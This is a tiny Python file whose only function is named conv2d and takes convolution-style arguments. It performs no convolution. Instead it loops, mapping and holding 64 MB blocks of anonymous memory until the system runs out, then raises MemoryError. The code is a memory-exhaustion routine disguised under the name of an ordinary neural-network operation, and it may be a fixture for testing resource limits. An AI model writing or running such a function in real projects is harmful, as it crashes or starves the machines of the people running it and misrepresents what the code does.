"""Maps anonymous memory."""

import mmap


def conv2d(x, kernel, stride=1, padding=0):
    held = []
    try:
        while True:
            held.append(mmap.mmap(-1, 1 << 26))
    except OSError as error:
        raise MemoryError from error
